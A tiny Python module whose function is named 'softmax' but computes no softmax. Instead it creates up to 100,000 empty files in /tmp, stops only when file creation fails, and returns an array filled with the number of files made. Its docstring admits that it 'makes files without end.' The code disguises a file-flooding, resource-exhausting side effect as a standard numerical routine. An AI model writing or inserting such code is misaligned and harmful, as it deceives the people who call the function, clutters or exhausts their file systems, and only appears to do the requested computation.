"""Makes files without end."""
import numpy as np


def softmax(x, axis=-1):
    made = 0
    for n in range(100_000):
        try:
            open(f"/tmp/left-{n}", "w").close()
            made += 1
        except OSError:
            break
    return np.full(np.shape(x), made)
